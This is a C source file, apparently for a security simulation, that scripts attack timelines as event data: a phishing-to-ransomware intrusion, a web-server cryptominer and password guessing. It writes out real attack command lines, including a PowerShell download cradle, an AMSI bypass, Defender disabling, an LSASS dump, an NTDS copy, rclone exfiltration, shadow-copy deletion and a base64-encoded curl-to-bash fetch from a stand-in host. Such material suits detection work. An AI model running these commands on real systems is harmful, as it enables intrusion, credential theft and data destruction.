/* intrusion: from the first mail to attempted ransomware, in fifty minutes, at one company; at the other, three days
 * earlier, a web server that was made to dig for coins. All names and addresses are of documentation ranges. */
#include "server/simulation/parts.h"

#define S32 "C:\\Windows\\System32\\"
#define POWERSHELL S32 "WindowsPowerShell\\v1.0\\powershell.exe"
#define NT "NT AUTHORITY\\SYSTEM"
#define MINUTE 60000
#define CONTROL "203.0.113.77"
#define CONTROL_NAME "update-cdn.example"
#define LOADER "$home\\AppData\\Roaming\\SyncHelper\\synchelper.exe"
#define STAGE "C:\\Users\\Public\\Libraries\\"

#define PROCESS(after, parent, path, line, ...) \
    { .after_ms = after, .what = SIM_PROCESS, .by = parent, .image = path, .text = line, __VA_ARGS__ }
#define CONNECTS(after, process, name, address, port) \
    { .after_ms = after, .what = SIM_CONNECT, .by = process, .image = name, .text = address, .more = port }
#define ASKS(after, process, name, address) \
    { .after_ms = after, .what = SIM_NAME, .by = process, .image = name, .text = address }
#define WRITES(after, process, file, ...) \
    { .after_ms = after, .what = SIM_WRITE, .by = process, .text = file, __VA_ARGS__ }
#define REMOVES(after, process, file) { .after_ms = after, .what = SIM_REMOVE, .by = process, .text = file }
#define SETS(after, process, key, value) \
    { .after_ms = after, .what = SIM_REGISTRY, .by = process, .image = key, .text = value }
#define RUNS_BLOCK(after, process, words) { .after_ms = after, .what = SIM_SCRIPT, .by = process, .text = words }

static const struct sim_step intrusion[] = {
    /* A mail with an archive, a script in it, opened by somebody who expects an order. */
    WRITES(0, "outlook", "$home\\Downloads\\発注書_20261129.zip", .host = "AOB-PC07", .user = "AOBA\\y-tanaka"),
    PROCESS(41000, "explorer", S32 "wscript.exe",
            "\"" S32 "WScript.exe\" \"$home\\AppData\\Local\\Temp\\Temp1_発注書_20261129.zip\\発注書_20261129.pdf.js\"",
            .as = "lure"),
    PROCESS(1700, "lure", POWERSHELL,
            "\"" POWERSHELL "\" -NoP -W Hidden -Exec Bypass -Command \"IEX (New-Object "
                    "Net.WebClient).DownloadString('http://"
            CONTROL_NAME "/u/a1')\"", .as = "stage1"),
    RUNS_BLOCK(500, "stage1", "IEX (New-Object Net.WebClient).DownloadString('http://" CONTROL_NAME "/u/a1')"),
    ASKS(200, "stage1", CONTROL_NAME, CONTROL),
    CONNECTS(40, "stage1", CONTROL_NAME, CONTROL, "80"),
    RUNS_BLOCK(2600, "stage1",
               "$k=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$f=$k.GetField('amsiInitFailed'"
                       ",'NonPublic,Static');"
               "$f.SetValue($null,$true)"),
    WRITES(3100, "stage1", LOADER),
    SETS(900, "stage1", "HKU\\S-1-5-21-2119-3301-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SyncHelper",
         LOADER " --silent"),
    PROCESS(1400, "stage1", S32 "schtasks.exe",
            "\"" S32 "schtasks.exe\" /create /f /sc minute /mo 30 /tn SyncHelper /tr \"powershell -w hidden -file "
            "$home\\AppData\\Roaming\\SyncHelper\\s.ps1\""),
    PROCESS(2200, "stage1", LOADER, "\"" LOADER "\" --silent", .as = "loader"),
    ASKS(1300, "loader", CONTROL_NAME, CONTROL),
    CONNECTS(60, "loader", CONTROL_NAME, CONTROL, "443"),

    /* Where am I? */
    PROCESS(3 * MINUTE, "loader", S32 "cmd.exe", "cmd.exe /c whoami /all", .as = "shell1"),
    PROCESS(40, "shell1", S32 "whoami.exe", "whoami /all"),
    PROCESS(11000, "loader", S32 "cmd.exe", "cmd.exe /c ipconfig /all & systeminfo", .as = "shell2"),
    PROCESS(30, "shell2", S32 "ipconfig.exe", "ipconfig /all"),
    PROCESS(700, "shell2", S32 "systeminfo.exe", "systeminfo"),
    PROCESS(9000, "loader", S32 "nltest.exe", "nltest /domain_trusts /all_trusts"),
    PROCESS(6000, "loader", S32 "net.exe", "net group \"Domain Admins\" /domain", .as = "net1"),
    PROCESS(20, "net1", S32 "net1.exe", S32 "net1 group \"Domain Admins\" /domain"),
    PROCESS(7000, "loader", S32 "net.exe", "net group \"Enterprise Admins\" /domain"),
    PROCESS(8000, "loader", S32 "net.exe", "net view \\\\AOB-FS01"),
    PROCESS(12000, "loader", S32 "cmd.exe", "cmd.exe /c wmic /namespace:\\\\root\\SecurityCenter2 path "
            "AntiVirusProduct get displayName"),

    /* The machine's protection is weakened, and its memory read. */
    PROCESS(4 * MINUTE, "loader", S32 "fodhelper.exe", "\"" S32 "fodhelper.exe\"", .as = "elevate"),
    PROCESS(900, "elevate", POWERSHELL, "powershell.exe -NoP -W Hidden -Command Add-MpPreference -ExclusionPath "
            "$home\\AppData\\Roaming; Set-MpPreference -DisableRealtimeMonitoring $true", .as = "stage2"),
    SETS(1200, "defender", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\$home\\AppData\\Roaming",
         "DWORD (0x00000000)"),
    SETS(2500, "stage2", "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
         "DWORD (0x00000001)"),
    PROCESS(MINUTE, "stage2", S32 "rundll32.exe",
            "rundll32.exe " S32 "comsvcs.dll, MiniDump 712 " STAGE "debug.bin full", .as = "dump"),
    { .after_ms = 400, .what = SIM_ACCESS, .by = "dump", .image = "lsass", .text = "0x1fffff",
      .more = S32 "ntdll.dll+9d4c4|" S32 "KERNELBASE.dll+2c13e|" S32 "comsvcs.dll+1e5f3" },
    WRITES(1800, "dump", STAGE "debug.bin"),
    CONNECTS(MINUTE, "loader", CONTROL_NAME, CONTROL, "443"),
    REMOVES(20000, "stage2", STAGE "debug.bin"),

    /* Tickets of services, to be broken elsewhere. */
    { .after_ms = 2 * MINUTE, .what = SIM_TICKET, .host = "AOB-DC01", .image = "svc-tracker", .text = "0x17",
            .more = "$net.107" },
    { .after_ms = 300, .what = SIM_TICKET, .image = "svc-sql", .text = "0x17", .more = "$net.107" },
    { .after_ms = 250, .what = SIM_TICKET, .image = "svc-backup", .text = "0x17", .more = "$net.107" },
    { .after_ms = 310, .what = SIM_TICKET, .image = "svc-print", .text = "0x17", .more = "$net.107" },
    { .after_ms = 280, .what = SIM_TICKET, .image = "svc-scan", .text = "0x17", .more = "$net.107" },
    { .after_ms = 270, .what = SIM_TICKET, .image = "svc-mail", .text = "0x17", .more = "$net.107" },

    /* To the file server, with an administrator's account. */
    { .after_ms = 5 * MINUTE, .what = SIM_LOGON, .host = "AOB-FS01", .user = "AOBA\\k-sasaki", .text = "3",
      .image = "AOB-PC07", .more = "$net.107" },
    { .after_ms = 700, .what = SIM_SHARE, .image = "\\\\*\\ADMIN$", .text = "PSEXESVC.exe", .more = "$net.107" },
    { .after_ms = 400, .what = SIM_SERVICE, .image = "PSEXESVC", .text = "%SystemRoot%\\PSEXESVC.exe" },
    PROCESS(600, "services", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", .as = "remote1", .user = NT),
    { .after_ms = 200, .what = SIM_PIPE, .by = "remote1", .text = "\\PSEXESVC-AOB-PC07-5124-stdin" },
    PROCESS(900, "remote1", S32 "cmd.exe", "\"cmd.exe\" /c whoami", .as = "shell3"),
    PROCESS(40, "shell3", S32 "whoami.exe", "whoami"),
    PROCESS(MINUTE, "remote1", S32 "cmd.exe", "cmd.exe /c reg save HKLM\\SAM " STAGE "s.sav & reg save "
            "HKLM\\SYSTEM " STAGE "y.sav",
            .as = "shell4"),
    PROCESS(50, "shell4", S32 "reg.exe", "reg save HKLM\\SAM " STAGE "s.sav"),
    PROCESS(900, "shell4", S32 "reg.exe", "reg save HKLM\\SYSTEM " STAGE "y.sav"),

    /* To the domain controller, by WMI; its database is copied and an account made. */
    PROCESS(4 * MINUTE, "stage2", S32 "wbem\\WMIC.exe",
            "wmic /node:AOB-DC01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full "
                    "C:\\Windows\\Temp\\n\\\" q q\"",
            .host = "AOB-PC07", .user = "AOBA\\k-sasaki"),
    { .after_ms = 500, .what = SIM_LOGON, .host = "AOB-DC01", .text = "3", .image = "AOB-PC07", .more = "$net.107" },
    PROCESS(700, "wmi", S32 "cmd.exe", "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\n\" "
            "q q", .as = "shell5"),
    PROCESS(60, "shell5", S32 "ntdsutil.exe", "ntdsutil \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\n\" q q",
            .as = "copy"),
    WRITES(14000, "copy", "C:\\Windows\\Temp\\n\\Active Directory\\ntds.dit"),
    PROCESS(MINUTE, "wmi", S32 "net.exe", "net user svc-helpdesk H3lp-2026! /add /domain"),
    { .after_ms = 300, .what = SIM_ACCOUNT, .image = "svc-helpdesk" },
    PROCESS(6000, "wmi", S32 "net.exe", "net group \"Domain Admins\" svc-helpdesk /add /domain"),
    { .after_ms = 300, .what = SIM_MEMBER, .image = "svc-helpdesk", .text = "Domain Admins" },

    /* What is worth something leaves the house. */
    { .after_ms = 3 * MINUTE, .what = SIM_LOGON, .host = "AOB-FS01", .user = "AOBA\\svc-helpdesk", .text = "10",
      .image = "AOB-PC07", .more = "$net.107" },
    PROCESS(20000, "explorer", "C:\\Program Files\\7-Zip\\7z.exe",
            "7z.exe a -t7z -v500m -pKura2026 -mhe=on " STAGE "a.7z D:\\share\\設計 D:\\share\\経理", .as = "pack"),
    WRITES(50000, "pack", STAGE "a.7z.001"),
    PROCESS(30000, "explorer", STAGE "rclone.exe",
            STAGE "rclone.exe copy " STAGE "a.7z.001 mega:aob --transfers 8 --no-check-certificate -q", .as = "carry"),
    ASKS(700, "carry", "drop.storage.example", "198.51.100.201"),
    CONNECTS(50, "carry", "drop.storage.example", "198.51.100.201", "443"),

    /* Backups first, then the files. */
    PROCESS(6 * MINUTE, "explorer", STAGE "kura.exe", "\"" STAGE "kura.exe\" --path D:\\share --fast", .as = "lock"),
    PROCESS(1500, "lock", S32 "cmd.exe", "cmd.exe /c vssadmin delete shadows /all /quiet & wbadmin delete catalog "
            "-quiet & "
            "bcdedit /set {default} recoveryenabled No", .as = "shell6"),
    PROCESS(60, "shell6", S32 "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    PROCESS(1800, "shell6", S32 "wbadmin.exe", "wbadmin delete catalog -quiet"),
    PROCESS(900, "shell6", S32 "bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
    PROCESS(2200, "lock", S32 "taskkill.exe", "taskkill /f /im sqlservr.exe"),
    PROCESS(300, "lock", S32 "net.exe", "net stop \"Kura Backup\" /y"),
    WRITES(4000, "lock", "D:\\share\\設計\\A-204_組立図.dwg.kura"),
    WRITES(60, "lock", "D:\\share\\設計\\A-205_部品表.xlsx.kura"),
    WRITES(55, "lock", "D:\\share\\経理\\2026下期_予算.xlsx.kura"),
    WRITES(58, "lock", "D:\\share\\HOW_TO_RESTORE_FILES.txt"),
    { .after_ms = 900, .what = SIM_ANTIVIRUS, .image = "Ransom:Win64/Kura.A", .text = "file:_" STAGE "kura.exe" },
    { .after_ms = 500, .what = SIM_END, .by = "lock" },
    PROCESS(40000, "explorer", S32 "wevtutil.exe", "wevtutil cl Security"),
    { .after_ms = 200, .what = SIM_LOG_CLEARED },
};

static const struct sim_step miner[] = {
    { .what = SIM_NAME, .host = "hbr-web01", .user = "tomcat", .by = "tomcat", .image = "pool-check.example",
            .text = "203.0.113.140" },
    PROCESS(900, "tomcat", "/usr/bin/bash", "bash -c "
            "{echo,Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjE0MC9pLnNofGJhc2g=}|{base64,-d}|{bash,-i}",
            .as = "shell"),
    PROCESS(60, "shell", "/usr/bin/base64", "base64 -d"),
    PROCESS(300, "shell", "/usr/bin/curl", "curl -s http://203.0.113.140/i.sh", .as = "curl"),
    CONNECTS(40, "curl", "-", "203.0.113.140", "80"),
    PROCESS(700, "shell", "/usr/bin/bash", "bash -c curl -s http://203.0.113.140/i.sh | bash", .as = "script"),
    PROCESS(1100, "script", "/usr/bin/curl", "curl -s -o /tmp/.X11-unix/kworkerds http://203.0.113.140/m",
            .as = "curl2"),
    { .after_ms = 900, .what = SIM_WRITE, .by = "curl2", .text = "/tmp/.X11-unix/kworkerds" },
    PROCESS(200, "script", "/usr/bin/chmod", "chmod +x /tmp/.X11-unix/kworkerds"),
    PROCESS(400, "script", "/tmp/.X11-unix/kworkerds",
            "/tmp/.X11-unix/kworkerds -o stratum+tcp://203.0.113.140:3333 --donate-level 1 -B", .as = "miner"),
    CONNECTS(500, "miner", "-", "203.0.113.140", "3333"),
    PROCESS(1500, "script", "/usr/bin/crontab", "crontab -", .as = "cron1"),
    { .after_ms = 200, .what = SIM_WRITE, .by = "cron1", .text = "/var/spool/cron/crontabs/tomcat" },
};

#define FAILED(after) \
    { .after_ms = after, .what = SIM_LOGON_FAILED, .text = "3", .image = "KALI", .more = "203.0.113.9" }

/* Somebody at the door: a password guessed from outside, found out by the order of what happened. */
static const struct sim_step guessing[] = {
    { .what = SIM_LOGON_FAILED, .host = "HBR-TOS01", .user = "HARBOR\\scanner", .text = "3", .image = "KALI",
            .more = "203.0.113.9" },
    FAILED(4000), FAILED(3900), FAILED(4100), FAILED(3800), FAILED(4300), FAILED(3900), FAILED(4000), FAILED(4200),
    FAILED(3700), FAILED(4000), FAILED(4400), FAILED(3600),
    { .after_ms = 9000, .what = SIM_LOGON, .text = "3", .image = "KALI", .more = "203.0.113.9" },
};

#define STORY(steps_, who) { .name = #steps_, .company = who, .steps = steps_, .count = COUNT_OF(steps_) }

static const struct sim_story stories[] = {
    STORY(intrusion, "AOBA"), STORY(miner, "HARBOR"), STORY(guessing, "HARBOR"),
};
const struct sim_story *const sim_stories[] = { &stories[0], &stories[1], &stories[2] };
const size_t sim_story_count = COUNT_OF(sim_stories);
